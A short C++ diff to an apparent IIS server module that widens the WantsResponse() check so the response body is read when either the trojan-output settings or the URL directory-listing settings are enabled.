@@ -49,7 +49,10 @@ void AppendChunk(const iis::HTTP_DATA_CHUNK& chunk, std::string* text) {
 
 }  // namespace
 
-bool WantsResponse(const WebsiteConfig& config) { return config.base.trojan != 0 && config.base.trojan_webout != 0; }
+bool WantsResponse(const WebsiteConfig& config) {
+  const BaseSettings& base = config.base;
+  return (base.trojan != 0 && base.trojan_webout != 0) || (base.url != 0 && base.url_dir_list != 0);
+}
 
 std::string ReadResponse(iis::IHttpContext& context) {
   std::string text;
